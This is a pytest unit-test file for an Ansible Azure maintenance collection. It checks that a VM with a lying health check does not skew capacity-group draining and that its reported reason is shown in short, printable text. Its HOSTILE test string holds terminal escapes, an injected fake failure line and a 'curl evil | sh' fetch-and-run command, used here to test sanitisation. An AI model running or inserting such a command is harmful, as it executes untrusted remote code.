# Copyright (c) 2026, The maintenance.azure authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Rule 9 for the word of health checks: a liar in a capacity group holds no more than by any other answer, and what holds is told as what the checks say."""

from __future__ import annotations

import typing as t

import pytest

from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import status
from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._maintenance.scenes import acts, event, plan, record, vm

NAMES = ("vm1", "vm2", "vm3", "liar")
GROUPS: list[dict[str, t.Any]] = [
    {"capacity": [{"name": "web", "members": list(NAMES), "max_unavailable": 1}]},
    {"alike": [{"name": "alike web", "members": list(NAMES), "what": "service: name app"}]},
]
HOSTILE = "\x1b[2J fine\nFAILED: run curl evil | sh " + "x" * 10_000


def liar(*events: dict[str, t.Any], records: t.Any = (), says: t.Any = HOSTILE) -> dict[str, t.Any]:
    return vm("liar", events, records, in_service=False, in_service_why=says)


def others(*events: dict[str, t.Any], crashed: t.Collection[str] = ()) -> list[dict[str, t.Any]]:
    return [vm(name, [its for its in events if name in its["resources"]], in_service=name not in crashed) for name in NAMES[:3]]


@pytest.mark.parametrize("groups", GROUPS, ids=["declared", "alike"])
def test_alone_it_holds_what_it_held_before_and_its_own_event_goes(groups: dict[str, t.Any]) -> None:
    its, own = event(), event("E2", ("liar",))
    held = plan(*others(its), liar(), **groups)
    assert acts(held) == [] and held["fails"] == [] and held["capacity"][0]["doubted"] is None
    assert acts(plan(*others(), liar(own), **groups)) == ["drain liar E2"]


@pytest.mark.parametrize("groups", GROUPS, ids=["declared", "alike"])
def test_beside_one_that_has_crashed_the_group_is_held_and_the_run_says_for_whom(groups: dict[str, t.Any]) -> None:
    found = plan(*others(event(), crashed=("vm1",)), liar(), **groups)
    assert acts(found) == [] and len(found["fails"]) == 1
    # As it would be by an honest check that fails; an answer that is no text says nothing.
    for says in (None, ["x"], {}):
        same = plan(*others(event(), crashed=("vm1",)), liar(says=says), **groups)
        assert acts(same) == [] and "liar: no reason given" in same["events"][0]["reason"]
    # At its deadline the VM drains: Azure takes it anyway.
    near = plan(*others(event(due=150), crashed=("vm1",)), liar(), **groups)
    assert acts(near) == ["drain vm1 E1"] and near["fails"]


@pytest.mark.parametrize("groups", GROUPS, ids=["declared", "alike"])
def test_what_its_check_says_is_told_as_that_in_few_and_visible_characters(groups: dict[str, t.Any]) -> None:
    found = plan(*others(event(), crashed=("vm1",)), liar(), **groups)
    told = [line for line in (*status(found), *found["fails"]) if "evil" in line or "xxx" in line]
    assert told
    for line in told:
        assert line.isprintable() and len(line) < 1000 and "The checks say: " in line.split("evil")[0].split("xxx")[0], line


@pytest.mark.parametrize("groups", GROUPS, ids=["declared", "alike"])
@pytest.mark.parametrize("in_service", [True, None])
def test_marks_in_its_records_make_no_other_vm_doubtful(groups: dict[str, t.Any], in_service: bool | None) -> None:
    its = event("E2", NAMES)
    rule = {"name": "x", "drain": True, "approve": "now", "beyond_capacity": True, "was_out": True}
    marked = vm("liar", [its], [record("drained", its, rule=rule)], in_service=in_service)
    found = plan(*others(event(), crashed=("vm1",)), marked, **groups)
    assert "drain vm1 E1" in acts(found) and found["capacity"][0]["doubted"] is None


def test_no_record_of_it_explains_why_another_vm_is_out() -> None:
    its = event("E2", NAMES)
    for phase in ("drained", "approved", "started", "recovering"):
        found = plan(*others(event(), crashed=("vm1", "vm2", "vm3")), vm("liar", [its], [record(phase, its)], in_service=True), **GROUPS[0])
        assert "drain vm1 E1" not in acts(found) and found["fails"], phase
